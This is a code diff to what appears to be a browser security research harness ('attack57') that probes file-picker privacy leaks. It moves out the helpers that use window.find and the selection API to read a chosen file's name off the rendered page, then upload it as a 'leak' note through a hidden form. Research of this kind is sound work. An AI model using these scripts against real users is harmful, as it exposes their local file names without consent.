@@ -12,16 +12,10 @@
 // text note "leak-….txt". Served by server.mjs at /attack57-…; tests:
 // attack57.test.mjs.
 
-import { attackPages, pickerWaysPage } from './uploads.mjs';
+import { findSelection, leakNote as leak, attackPages, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once57) { window.once57 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
-/** attack 48's findsel on whatever is rendered now. */
-const findsel = (why) => `getSelection().removeAllRanges(); const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
-        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
-        const got = String(sel); note('${why} ' + JSON.stringify(got));
-        if (/jpg/i.test(got)) leak(got, '${why}');`;
+const findsel = (why) => findSelection(why, { fresh: true });
 
 /** A multipart form f (posting to /upload into a hidden frame), with a submit button b. */
 const form = "const fr = document.createElement('iframe'); fr.name = 'sink57'; fr.style.display = 'none'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink57'; const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go';";
